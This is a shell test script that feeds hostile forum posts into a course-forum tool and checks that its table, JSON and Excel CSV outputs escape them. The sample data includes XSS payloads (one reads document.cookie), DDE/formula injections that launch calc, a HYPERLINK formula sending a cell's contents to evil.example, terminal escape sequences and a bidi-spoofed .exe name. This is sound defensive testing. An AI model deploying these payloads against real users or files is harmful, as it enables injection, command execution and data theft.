# Hostile posts: markup, spreadsheet formulas (DDE too), terminal escape
# sequences, bidi overrides. Each output is escaped for what it is: the
# table (for a terminal) shows U+FFFD for controls and bidi overrides,
# --excel neutralises formula cells with an apostrophe (not "-3", a
# number), JSON escapes, and markup is never more than text.
esc=$(printf '\033')
bel=$(printf '\007')
rlo=$(printf '\342\200\256')
lri=$(printf '\342\201\246')
{
	echo 'id,thread,parent,author,created,subject,body,course,forum,deleted,private'
	echo '1,t1,,a,2026-11-01T10:00:00Z,<script>alert(1)</script>,"<p>Hi <script>alert(""x"")</script> there</p>",C1,Q,0,0'
	echo '2,t2,,a,2026-11-01T11:00:00Z,"""><img src=x onerror=alert(1)>","""><img src=x onerror=alert(document.cookie)> hi",C1,Q,0,0'
	echo '3,t3,,a,2026-11-01T12:00:00Z,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",=1+1,C1,Q,0,0'
	echo "4,t4,,a,2026-11-01T13:00:00Z,+cmd|' /C calc'!A0,-2+3,C1,Q,0,0"
	echo "5,t5,,a,2026-11-01T14:00:00Z,@SUM(1+1)*cmd|' /C calc'!A0,-3,C1,Q,0,0"
	echo "6,t6,,a,2026-11-01T15:00:00Z,${esc}[31mred${esc}[0m${bel}${esc}]0;title${bel},${esc}[2J${esc}[Hcleared,C1,Q,0,0"
	echo "7,t7,,a,2026-11-01T16:00:00Z,invoice${rlo}fdp.exe,abc${lri}def,C1,Q,0,0"
	printf '8,t8,,a,2026-11-01T17:00:00Z,"\ttab =1","\r=cr",C1,Q,0,0\n'
} >hostile.csv
printf 'id,name,role,cohort\na,Ana,learner,A\n' >persons.csv
lcm-import -q persons.csv hostile.csv; echo "import rc=$?"
now=--now=2026-11-10T00:00:00Z
c0="$(printf '[\001-\010\013-\037\177]')"
bidi="$(printf '\342\200[\252-\256]|\342\201[\246-\251]')"

echo "--- table"
lcm-unanswered $now -f table >table.txt; echo "rc=$?"
cat table.txt
echo "lines with a control character: $(grep -c "$c0" table.txt)"
echo "lines with a bidi control: $(grep -Ec "$bidi" table.txt)"

echo "--- json"
lcm-unanswered $now -f json >out.json; echo "rc=$?"
cat out.json
echo "lines with a control character: $(grep -c "$c0" out.json)"

echo "--- csv --excel (separator ';', after a BOM)"
lcm-unanswered $now -f csv --excel >excel.csv; echo "rc=$?"
sed '1s/^\xef\xbb\xbf/(BOM)/' excel.csv | cat -v
# no cell may start with = + - @ TAB CR unless it is a number; plain CSV
# shows the check finds them
tab=$(printf '\t')
cr=$(printf '\r')
formula="^\"?([=+@$tab$cr]|-[^0-9.])"
echo "formula cells left: $(tr ';' '\n' <excel.csv | grep -Ec "$formula")"
lcm-unanswered $now -f csv >plain.csv
echo "formula cells in plain csv: $(tr ',' '\n' <plain.csv | grep -Ec "$formula")"
